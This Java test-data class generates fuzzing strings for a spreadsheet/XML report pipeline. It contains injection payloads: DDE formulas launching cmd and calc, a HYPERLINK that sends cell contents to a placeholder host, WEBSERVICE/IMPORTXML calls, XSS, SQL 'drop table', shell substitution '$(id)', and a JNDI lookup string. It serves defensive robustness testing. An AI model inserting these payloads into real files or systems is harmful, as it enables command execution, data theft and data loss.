package uk.lgs.pipeline.report;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.IntStream;

/** Texts that spreadsheets, XML or readers are known to stumble over, made by rules; several times as many as public lists hold. */
final class HardTexts {
    private static final int SEED = 20_111_209;
    private static final int RANDOM = 300;
    private static final int LONGEST_RANDOM = 60;

    private HardTexts() {}

    /** All of them, each once and none empty. */
    static List<String> all() {
        Set<String> texts = new LinkedHashSet<>();
        texts.addAll(formulas());
        texts.addAll(escapes());
        texts.addAll(characters());
        texts.addAll(words());
        texts.addAll(random());
        texts.remove("");
        return List.copyOf(texts);
    }

    /** Every beginning that a spreadsheet may take for a formula, before payloads that would do harm. */
    private static List<String> formulas() {
        List<String> texts = new ArrayList<>();
        List<String> starts = List.of(
                "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00A0=", "\uFF1D", "\uFF0B", "\uFEFF=", "'=", "\"=",
                "%0A=", ";=");
        List<String> payloads = List.of(
                "1+1",
                "cmd|' /C calc'!A0",
                "DDE(\"cmd\";\"/C calc\";\"x\")",
                "HYPERLINK(\"http://example.invalid/\"&A1,\"click\")",
                "WEBSERVICE(\"http://example.invalid/\")",
                "IMPORTXML(\"http://example.invalid\",\"//a\")",
                "MSEXCEL|'\\..\\..\\x.exe'!A1",
                "SUM(A1:A9)*cmd|'/c x'!A0",
                "_xlfn.CONCAT(A1)",
                "{1;2}",
                "R1C1",
                "#REF!");
        for (String start : starts) {
            for (String payload : payloads) {
                texts.add(start + payload);
            }
        }
        return texts;
    }

    /** Escapes of OOXML, XML, HTML, SQL, shells and formats. */
    private static List<String> escapes() {
        List<String> texts = new ArrayList<>();
        for (String code : List.of("003D", "000D", "0000", "005F", "D83D", "FFFF", "003d", "003G", "03D")) {
            texts.addAll(List.of(
                    "_x" + code + "_",
                    "__x" + code + "_",
                    "_x005F_x" + code + "_",
                    "a_x" + code + "_b_x" + code + "_"));
        }
        texts.addAll(List.of(
                "<script>alert(1)</script>",
                "]]>",
                "<![CDATA[x]]>",
                "<!--",
                "&amp;",
                "&#x0;",
                "&lt;t&gt;",
                "<?xml?>",
                "' or 1=1 --",
                "\"; drop table retail; --",
                "$(id)",
                "`id`",
                "%s%n%x",
                "{0}",
                "${jndi:ldap://example.invalid}",
                "\\0",
                "\\",
                "/",
                "../..",
                "true",
                "FALSE",
                "null",
                "NULL",
                "NaN",
                "Infinity",
                "-0",
                "0x1F",
                "1E5",
                "1,000.00",
                "1/2",
                "2011-12-09",
                "MARCH1",
                "SEPT2",
                "00123",
                "#N/A",
                "#DIV/0!",
                "ERROR"));
        return texts;
    }

    /** Every control character and other code points that are not drawn, alone and within a word; lone halves of surrogates. */
    private static List<String> characters() {
        List<String> texts = new ArrayList<>();
        IntStream.concat(
                        IntStream.rangeClosed(0x00, 0x1F),
                        IntStream.concat(IntStream.rangeClosed(0x7F, 0xA0), IntStream.rangeClosed(0x2028, 0x202E)))
                .forEach(code -> texts.addAll(List.of(Character.toString(code), "a" + Character.toString(code) + "b")));
        for (int code : new int[] {
            0xAD, 0x34F, 0x61C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2060, 0x2066, 0x2069, 0xFEFF, 0xFFF9,
            0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFE, 0xE0001, 0x10FFFF
        }) {
            texts.addAll(List.of(Character.toString(code), "a" + Character.toString(code) + "b"));
        }
        for (String half : List.of("\uD83C", "\uDF81", "\uDF81\uD83C", "\uD83C\uD83C\uDF81")) {
            texts.addAll(List.of(half, "a" + half, half + "b"));
        }
        return texts;
    }

    /** Scripts, directions, marks and emoji; blanks at the ends; texts as long as a cell and longer. */
    private static List<String> words() {
        List<String> texts = new ArrayList<>(List.of(
                "\u05D1\u05E8\u05D0\u05E9\u05D9\u05EA",
                "\u0627\u0644\u0633\u0644\u0627\u0645",
                "\u202Eesrever",
                "\u4E2D\u6587 \u65E5\u672C\u8A9E \uD55C\uAD6D\uC5B4",
                "Z\u0351\u036B\u0343a\u0328l\u0349g\u0321o",
                "e\u0301",
                "\u00E9",
                "\u1E9E\u00DF\u0130\u0131",
                "\uFDFA",
                "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                "\uD83C\uDDEC\uD83C\uDDE7",
                " leading",
                "trailing ",
                "  ",
                "a\nb",
                "a\r\nb",
                "a\tb",
                "\u00A3\u20AC\u00A5",
                "\u2026\u2019\u201C",
                "CON",
                "Can't Lose",
                "'quoted'",
                "'"));
        for (int length :
                new int[] {255, 256, 1_024, 8_192, CellText.LONGEST - 1, CellText.LONGEST, CellText.LONGEST + 1, 100_000
                }) {
            texts.add("x".repeat(length));
            texts.add("\uD83C\uDF81".repeat(length / 2));
        }
        return texts;
    }

    /** Words of all those characters, thrown together. */
    private static List<String> random() {
        Random random = new Random(SEED);
        String alphabet = "=+-@\t\r\n _x003D_<>&'\"\u0000\u001F\u200F\u202E\uD83C\uDF81\uFFFFaZ9";
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < RANDOM; i++) {
            StringBuilder text = new StringBuilder();
            for (int length = random.nextInt(LONGEST_RANDOM) + 1; length > 0; length--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            texts.add(text.toString());
        }
        return texts;
    }
}
